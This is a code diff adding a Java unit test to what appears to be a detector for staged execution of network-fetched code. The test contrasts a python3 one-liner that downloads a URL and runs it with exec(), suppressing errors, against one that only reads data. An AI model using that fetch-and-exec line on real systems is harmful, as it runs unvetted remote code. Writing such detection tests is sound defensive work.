@@ -267,4 +267,18 @@ class ProgramFromTheNetworkTest {
         assertThat(withArgv(ps, "uname", "-r").features().get("ind.staged_exec")).isZero();
         assertThat(withArgv(ps, "/bin/echo", "uname", "-a").features().get("ind.staged_exec")).isZero();
     }
+
+    @Test
+    void anInterpreterOneLinerRunningWhatItFetchesRunsStagedCodeButOneReadingDataDoesNot() throws Exception {
+        // schema 22: python3 -c "exec(urlopen(URL).read())" runs the download in memory; the served text is shell, so
+        // exec fails on it, which does not matter: the command line says fetch and run
+        String fetchAndRun = "/usr/bin/python3 -c 'import urllib.request as u\ntry: exec(u.urlopen(\"URL\").read())\nexcept Exception: pass'";
+        String fetchAndCount = "/usr/bin/python3 -c 'import urllib.request as u; print(len(u.urlopen(\"URL\").read()))'";
+        List<ProcessRecord> ps = trace((fetchAndRun + "; " + fetchAndCount + " > out.txt").replace("URL", url));
+
+        assertThat(ps).filteredOn(p -> p.argv().get(0).equals("/usr/bin/python3") && p.argv().get(2).contains("exec(")).singleElement()
+                .satisfies(p -> assertThat(p.features().get("ind.staged_exec")).isEqualTo(1f));
+        assertThat(ps).filteredOn(p -> p.argv().get(0).equals("/usr/bin/python3") && p.argv().get(2).contains("print(len(")).singleElement()
+                .satisfies(p -> assertThat(p.features().get("ind.staged_exec")).as("data read, not run").isZero());
+    }
 }
